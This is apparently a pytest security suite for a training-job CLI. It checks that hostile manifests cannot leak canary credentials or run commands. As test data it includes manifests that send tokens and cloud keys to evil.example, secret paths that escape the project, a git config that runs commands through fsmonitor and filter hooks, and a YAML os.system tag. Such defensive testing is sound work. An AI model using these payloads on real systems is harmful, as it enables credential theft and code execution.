"""A stranger's manifest, planned by a runner that has credentials in every usual place: none leaves, and nothing of it is run.

The runner lives in a network where every address is a recorder's, which answers as any host, over TLS that the runner trusts.
"""

from __future__ import annotations

import base64
import json
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.support.machines.sshd import make_key
from tests.support.network import netns
from tests.support.projects.project import ProjectHarness, project
from tests.support.servers.certificate_authority import authority, issue_certificate
from tests.support.tiers import sample

ROOT = Path(__file__).parents[2]
NAMES = (
    "evil.example", "*.evil.example", "huggingface.co", "*.huggingface.co", "*.amazonaws.com", "*.s3.amazonaws.com",
    "*.us-east-1.amazonaws.com", "*.us-west-2.amazonaws.com", "*.googleapis.com", "*.blob.core.windows.net",
    "*.r2.cloudflarestorage.com", "login.microsoftonline.com", "metadata.google.internal",
)  # fmt: skip
VARIABLES = (
    "HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN",
    "AZURE_CLIENT_SECRET", "AZURE_STORAGE_KEY", "AZURE_STORAGE_ACCOUNT_KEY", "AZURE_STORAGE_SAS_TOKEN", "GOOGLE_API_KEY",
    "GITHUB_TOKEN", "WANDB_API_KEY", "GOOGLE_SERVICE_ACCOUNT_KEY",
)  # fmt: skip


def canary(place: str) -> str:
    """The credential of one place."""
    return f"canary{''.join(filter(str.isalnum, place))}0123456789"


def files_with_credentials(home: Path) -> dict[str, str]:
    """Where programs keep credentials, and what is there."""
    login = base64.b64encode(f"me:{canary('docker')}".encode()).decode()
    google = {
        "type": "authorized_user",
        "client_id": canary("google-client"),
        "client_secret": canary("google-secret"),
        "refresh_token": canary("google-refresh"),
    }
    hosts = "".join(
        f"machine {name} login me password {canary('netrc')}\n"
        for name in ("evil.example", "203.0.113.7")
    )
    return {
        ".cache/huggingface/token": canary("hf-file"),
        ".aws/credentials": f"[default]\naws_access_key_id = {canary('aws-file-id')}\naws_secret_access_key = {canary('aws-file')}\n",
        ".netrc": hosts + f"default login me password {canary('netrc-default')}\n",
        ".docker/config.json": json.dumps({"auths": {"registry.evil.example": {"auth": login}, "evil.example": {"auth": login}}}),
        ".git-credentials": f"https://me:{canary('git')}@evil.example\n",
        ".gitconfig": "[credential]\n\thelper = store\n",
        ".config/gcloud/application_default_credentials.json": json.dumps(google),
        ".azure/msal_token_cache.json": json.dumps({"secret": canary("azure-file")}),
        "outside.txt": canary("outside"),
    }  # fmt: skip


@dataclass
class Runner:
    """The runner of pull requests, and what everybody else has heard of it."""

    work: ProjectHarness
    heard: Path

    def lines(self) -> list[dict[str, str]]:
        text = self.heard.read_text() if self.heard.exists() else ""
        return [json.loads(line) for line in text.splitlines()]

    def leaks(self) -> list[tuple[str, str]]:
        """Each credential that somebody heard, as it is or in base64, and who. A credential may be told to its own platform."""
        top = self.work.directory.parent
        values = [canary(name) for name in VARIABLES]
        values += [
            word
            for text in files_with_credentials(top / "home").values()
            for word in text.replace('"', " ").replace(":", " ").replace("@", " ").split()
            if word.startswith("canary")
        ]
        found = []
        for one in self.lines():
            said = one["said"] + "".join(_decoded(one["said"]))
            found += [(value, one["name"]) for value in values if value in said]
        return found


def _decoded(said: str) -> Iterator[str]:
    for word in said.split():
        try:
            yield base64.b64decode(word, validate=True).decode("latin-1")
        except ValueError:
            continue


@pytest.fixture(scope="module")
def network(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """The network namespace, and what the recorder writes down."""
    if absent := netns.missing():
        pytest.skip(f"needs {absent}")
    heard = tmp_path_factory.mktemp("heard") / "heard.jsonl"
    certificate, key = issue_certificate(*NAMES)
    with netns.sink_namespace() as name:
        argv = [
            "ip",
            "netns",
            "exec",
            name,
            sys.executable,
            "-m",
            "tests.support.network.traffic_recorder",
        ]
        with subprocess.Popen(
            [*argv, str(heard), str(certificate), str(key)],
            cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
        ) as recorder:  # fmt: skip
            assert recorder.stdout is not None
            assert recorder.stdin is not None
            assert recorder.stdout.readline() == "listening\n"
            yield f"/run/netns/{name}", heard
            recorder.stdin.close()


@pytest.fixture
def runner(tmp_path: Path, network: tuple[str, Path]) -> Iterator[Runner]:
    """A runner with a credential in every usual place, and a pull request checked out."""
    namespace, heard = network
    heard.unlink(missing_ok=True)
    with project(tmp_path) as work:
        work.namespace = namespace
        home = tmp_path / "home"
        for name, text in files_with_credentials(home).items():
            path = home / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
            path.chmod(0o600)
        trusted = str(authority().certificates)
        work.variables |= {
            **{name: canary(name) for name in VARIABLES},
            "SSL_CERT_FILE": trusted, "REQUESTS_CA_BUNDLE": trusted, "AWS_CA_BUNDLE": trusted, "CURL_CA_BUNDLE": trusted,
            "AWS_EC2_METADATA_DISABLED": "true", "CI": "true",
        }  # fmt: skip
        ran = work.directory / "ran"
        script = f"#!/bin/sh\ntouch {ran}\necho {'x' * 20}\n"
        for name in ("evil/bin/python", "evil/bin/python3", "give", "pass"):
            work.write({name: script})
            (work.directory / name).chmod(0o755)
        work.write(
            {
                "train.py": "import nothing_like_this\n",
                "requirements.txt": "evil @ https://evil.example/evil.tar.gz\n",
            }
        )
        yield Runner(work, heard)


_JOB = "jobs: {j: {weights: [m], runtime: {start_commands: [ls]}}}\n"


def _source(secret: str, where: str = "https://evil.example/m.bin", more: str = "") -> str:
    return (
        f"secrets: {{s: {{{secret}}}}}\n"
        f"weights: {{m: {{source: '{where}', auth: {{auth_secret_name: s{more}}}}}}}\n{_JOB}"
    )


_ENDPOINT = ", endpoint_url: 'https://s3.evil.example'"
_SSH = "clusters: {lab: {provider: ssh, hosts: [{address: evil.example, host_key: HOST_KEY}]}}\n"
_REGISTRY = """\
secrets: {s: {from: env, name: GITHUB_TOKEN}}
jobs:
  j:
    image:
      base_image: registry.evil.example/a/b
      docker_auth: {auth_method: METHOD}
    runtime: {start_commands: [ls]}
"""
FORBIDDEN = {
    "a new host": _source("from: env, name: HF_TOKEN"),
    "a new host at a usual port": _source("from: env, name: GITHUB_TOKEN", "https://evil.example:8443/m.bin"),
    "an address": _source("from: env, name: GITHUB_TOKEN", "https://203.0.113.7/m.bin"),
    "a host like the Hub": _source("from: env, name: HF_TOKEN", "https://huggingface.co.evil.example/m.bin"),
    "a file by its path": _source("from: file, path: ../home/outside.txt", "hf://a/b"),
    "a file by a whole path": _source("from: file, path: ~/outside.txt", "hf://a/b"),
    "a file by a link": _source("from: file, path: link", "hf://a/b"),
    "a command": _source("from: command, command: [touch, ran]", "hf://a/b"),
    "a command of its own": _source("from: command, command: [./give]", "hf://a/b"),
    "a keyring": _source("from: keyring, name: x"),
    "AWS's secrets": _source("from: aws-secrets-manager, name: prod, region: us-west-2"),
    "an endpoint for S3": _source("from: env, name: AWS_SECRET_ACCESS_KEY", "s3://models/b", _ENDPOINT),
    "an endpoint for GCS": _source("from: env, name: GOOGLE_SERVICE_ACCOUNT_KEY", "gs://models/b", _ENDPOINT),
    "an endpoint for Azure": _source("from: env, name: AZURE_STORAGE_KEY", "azure://account/models/b", _ENDPOINT),
    "an endpoint for R2": _source("from: env, name: AWS_SECRET_ACCESS_KEY", "r2://a.bucket/b", _ENDPOINT),
    "a role's session": (
        "weights: {m: {source: 's3://models/b', auth: {auth_method: AWS_ASSUME_ROLE, "
        f"aws_assume_role_arn: 'arn:aws:iam::123456789012:role/r', aws_assume_role_region: us-east-1{_ENDPOINT}}}}}}}\n{_JOB}"
    ),
    "a registry": _REGISTRY.replace(
        "METHOD",
        "REGISTRY_SECRET, registry: registry.evil.example, registry_secret_docker_auth: {secret_ref: {secret: s}}",
    ),
    "a registry by Google's key": _REGISTRY.replace(
        "METHOD",
        "GCP_SERVICE_ACCOUNT_JSON, registry: gcr.io.evil.example, gcp_service_account_json_docker_auth: {service_account_json_secret_ref: {secret: s}}",
    ),
    "checkpoints": f"secrets: {{s: {{from: env, name: AWS_SECRET_ACCESS_KEY}}}}\ncheckpoints: {{url: s3://models/b{_ENDPOINT}, auth: {{auth_secret_name: s}}}}\n",
    "checkpoints by the runner's own": f"checkpoints: {{url: s3://models/b{_ENDPOINT}}}\n",
    "an endpoint and the runner's own key": f"weights: {{m: {{source: 's3://models/b'{_ENDPOINT}}}}}\n{_JOB}",
    "an endpoint for R2 and the runner's own key": f"weights: {{m: {{source: 'r2://a.bucket/b'{_ENDPOINT}}}}}\n{_JOB}",
    "an endpoint for GCS and the runner's own login": f"weights: {{m: {{source: 'gs://models/b'{_ENDPOINT}}}}}\n{_JOB}",
    "an endpoint for Azure and the runner's own key": f"weights: {{m: {{source: 'azure://account/models/b'{_ENDPOINT}}}}}\n{_JOB}",
    "a mirror and the runner's own key": f"mirror: {{url: s3://models/b{_ENDPOINT}}}\nweights: {{m: 'file:./train.py'}}\n{_JOB}",
}  # fmt: skip
"""What is refused for lack of trust."""

HARMLESS = {
    "nobody's file": f"weights: {{m: 'https://evil.example/m.bin'}}\n{_JOB}",
    "a mirror": f"mirror: {{url: s3://models/b{_ENDPOINT}}}\nweights: {{m: 'https://evil.example/m.bin'}}\n{_JOB}",
    "a state": f"state: {{url: s3://models/b{_ENDPOINT}}}\n",
    "a mirror and a state by a secret": (
        "secrets: {s: {from: env, name: AWS_SECRET_ACCESS_KEY}}\n"
        f"mirror: {{url: s3://models/b{_ENDPOINT}, auth: {{auth_secret_name: s}}}}\nstate: {{url: s3://models/c{_ENDPOINT}, auth: {{auth_secret_name: s}}}}\n"
    ),
    "a host of its own": _SSH
    + "secrets: {s: {from: env, name: AWS_SECRET_ACCESS_KEY}}\njobs: {j: {runtime: {start_commands: [ls], environment_variables: {A: {secret: s}}}}}\n",
    "a mirror on its host": f"{_SSH}mirror: {{url: node://lab/x}}\nweights: {{m: 'hf://a/b'}}\n{_JOB}",
    "an image": "jobs: {j: {image: {base_image: registry.evil.example/a/b}, runtime: {start_commands: [ls]}}}\n",
    "commands": "jobs: {j: {runtime: {start_commands: [touch ran], cache_config: {enabled: true, prepare_commands: [touch ran]}}}}\n",
    "requirements": "jobs: {j: {runtime: {requirements: requirements.txt, start_commands: [python train.py]}}}\n",
    "an interpreter": "jobs: {j: {runtime: {venv: 'DIRECTORY/evil', start_commands: [python3 train.py]}}}\n",
    "code in a bare repository": "jobs: {j: {code: bare, runtime: {start_commands: [ls]}}}\n",
    "variables": f"vars: {{x: $HF_TOKEN}}\nweights: {{m: 'https://evil.example/${{{{ var.x }}}}/m.bin'}}\n{_JOB}",
    "expressions": f"secrets: {{s: {{from: env, name: HF_TOKEN}}}}\nweights: {{m: 'https://evil.example/${{{{ secrets.s }}}}/${{{{ env.HF_TOKEN }}}}.bin'}}\n{_JOB}",
    "a tag": "jobs: !!python/object/apply:os.system [touch ran]\n",
}  # fmt: skip
"""What may be planned or not; nothing leaves in any case."""


def write(runner: Runner, text: str) -> None:
    work = runner.work
    key = make_key(work.directory.parent / "host-key") if "HOST_KEY" in text else ""
    text = text.replace("HOST_KEY", f"'{key}'").replace("DIRECTORY", str(work.directory))
    work.write({"trainctl.yaml": text})
    if "path: link" in text:
        (work.directory / "link").symlink_to(work.directory.parent / "home" / "outside.txt")
    if "code: bare" in text:
        bare, ran = work.directory / "bare", work.directory / "ran"
        subprocess.run(["git", "init", "-q", "--bare", str(bare)], check=True)
        with (bare / "config").open("a") as file:
            file.write(
                f"[core]\n\tbare = false\n\tworktree = {bare}\n\tfsmonitor = touch {ran}; false\n"
            )
            file.write(f'[filter "x"]\n\tclean = touch {ran}; cat\n')
        work.write({"bare/.gitattributes": "* filter=x\n", "bare/train.py": "1\n"})


def unharmed(runner: Runner) -> None:
    """No credential was heard by anybody but the Hub, which may know its own; nothing was run."""
    assert {one for one in runner.leaks() if one[1] != "huggingface.co"} == set()
    assert {value for value, _ in runner.leaks()} <= {canary("HF_TOKEN")}
    assert not (runner.work.directory / "ran").exists()


@pytest.mark.parametrize("name", sample([*FORBIDDEN], fixed=7, rotating=3))
def test_what_only_trust_could_allow_is_refused(runner: Runner, name: str) -> None:
    """plan ends with 13, says why, shows no credential, and nobody on the network has heard one; nothing was run."""
    write(runner, FORBIDDEN[name])
    done = runner.work.run("plan", code=13)
    assert "error" in done.stderr
    assert "canary" not in done.stdout + done.stderr
    unharmed(runner)


@pytest.mark.parametrize(
    ("variable", "source", "platform"),
    [
        ("AZURE_STORAGE_ENDPOINT", "azure://account/models/b", "https://account.blob.core.windows.net"),
        ("AWS_ENDPOINT_URL", "s3://models/b", "https://s3.us-east-1.amazonaws.com"),
        ("AWS_ENDPOINT_URL_S3", "r2://a.bucket/b", "https://a.r2.cloudflarestorage.com"),
    ],
)  # fmt: skip
def test_what_opens_the_runners_own_server_goes_to_no_platform(
    runner: Runner, variable: str, source: str, platform: str
) -> None:
    """Where the environment names a server, its credential is that server's: a manifest sends it to nobody's account elsewhere."""
    runner.work.variables[variable] = "https://storage.own.example"
    write(runner, f"weights: {{m: {{source: '{source}', endpoint_url: '{platform}'}}}}\n{_JOB}")

    told = runner.work.run("plan", code=13).stderr

    assert "only the manifest names this host" in told
    assert runner.leaks() == []


@pytest.mark.parametrize("name", sample([*HARMLESS], fixed=2, rotating=2))
def test_whatever_is_planned_gives_nothing_away(runner: Runner, name: str) -> None:
    """Whether there is a plan or not, with a look at machines and without."""
    write(runner, HARMLESS[name])
    for flags in ((), ("--refresh=false",)):
        done = runner.work.run("plan", *flags, code=None)
        assert done.returncode in (0, 1, 13, 64)
        assert "canary" not in done.stdout + done.stderr
    unharmed(runner)


def test_checking_secrets_gives_nothing_away(runner: Runner) -> None:
    """secrets check of a hostile manifest runs and sends nothing either."""
    write(runner, FORBIDDEN["a command of its own"])
    runner.work.run("secrets", "check", code=13)
    write(runner, FORBIDDEN["a new host"])
    done = runner.work.run("secrets", "check", code=13)
    assert "canary" not in done.stdout + done.stderr
    assert runner.lines() == []
    unharmed(runner)


def test_the_recorder_would_hear_it(runner: Runner) -> None:
    """With the user's word for it the token goes to that host, and the recorder hears it: silence above means something."""
    write(runner, FORBIDDEN["a new host"])
    runner.work.trust('secret = "s"\nhosts = ["evil.example"]')
    runner.work.run("plan", code=1)
    assert (canary("HF_TOKEN"), "evil.example") in runner.leaks()
